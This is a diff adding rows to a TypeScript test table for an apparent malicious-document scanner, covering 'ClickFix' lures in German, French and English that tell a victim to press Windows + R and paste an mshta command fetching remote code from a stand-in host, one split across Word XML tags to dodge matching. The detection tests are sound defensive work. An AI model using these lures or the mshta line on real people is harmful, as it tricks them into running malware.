@@ -287,6 +287,29 @@ const ROWS: readonly Row[] = [
     page(`<p>${REPORTED.join(' ')}</p>`),
   ],
   [
+    'command to paste, in another language',
+    'Html.ClickFix',
+    Buffer.from(
+      `Ihr Konto wurde gesperrt. Windows-Taste + R drücken und diese Zeile einfügen:\nmshta https://a.example/a`,
+    ),
+    paragraphs(
+      'Votre certificat a expiré.</w:t></w:r><w:r><w:t> Appuyez sur Win</w:t></w:r><w:r><w:t>dows + R, copiez puis collez :',
+      'ms</w:t></w:r><w:r><w:t>hta https://a.example/a',
+    ),
+    Buffer.from(
+      `Fügen Sie nie eine Zeile mit Windows-Taste + R ein, auch wenn ein Konto gesperrt ist:\nmshta https://a.example/a`,
+    ),
+  ],
+  [
+    'command to paste that names malware',
+    'Html.ClickFix',
+    letter('Malware was found on your computer.', 'Press Windows + R, paste this line:', 'mshta https://a.example/a'),
+    page(
+      '<p>A phishing scam was detected. Verify that you are human: press Windows + R and paste.</p><pre>mshta https://a.example/a</pre>',
+    ),
+    letter('Malware was found on a computer. Never paste such a line with Windows + R:', 'mshta https://a.example/a'),
+  ],
+  [
     'stylesheet with a script',
     'Script.Program',
     xsl('language="JScript"', RUN),
